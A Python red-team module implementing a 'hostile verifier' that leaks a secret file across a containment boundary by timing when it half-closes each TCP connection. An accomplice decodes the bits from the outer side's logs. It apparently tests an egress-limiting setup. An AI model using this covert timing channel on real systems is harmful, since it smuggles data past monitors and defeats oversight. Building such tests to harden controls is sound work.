"""The hostile verifier (red team only): a spot-check verifier on the inner side that signals
to the outer through the feed's connection, the one thing it controls that the outer sees.

Run as its own process (`python -m uplimit.redteam.hostile_verifier PORT SECRET BITS TICK`):
it listens as `uplimit serve verifier` does, never reads, and ends each connection the outer
makes `value` ticks after accepting it (a FIN), where `value` is the next BITS bits of the
secret; on every fourth connection it also writes a byte first (to see what that costs it).
An accomplice on the outer side reads the values back from when the outer saw each
connection end (`VerifierFeed.ends`: what its logs show).
"""

from __future__ import annotations

import contextlib
import socket
import sys
import time
from pathlib import Path

from uplimit.redteam.stego import secret_bit


def symbol(secret: bytes, k: int, bits: int) -> int:
    """The k-th `bits`-bit value of the secret (0 past its end)."""
    value = 0
    for j in range(bits):
        value = value << 1 | (secret_bit(secret, k * bits + j) or 0)
    return value


def main() -> None:
    port, secret = int(sys.argv[1]), Path(sys.argv[2]).read_bytes()
    bits, tick = int(sys.argv[3]), float(sys.argv[4])
    listener = socket.create_server(("127.0.0.1", port))
    print("listening", flush=True)
    held = []
    for k in range(1 << 30):
        conn, _ = listener.accept()
        if k % 4 == 3:
            conn.sendall(b"!")
        time.sleep((symbol(secret, k, bits) + 0.5) * tick)
        with contextlib.suppress(OSError):  # the outer may have ended it already
            conn.shutdown(socket.SHUT_WR)
        held.append(conn)  # never read, never closed: a close with unread bytes is a reset


if __name__ == "__main__":
    main()
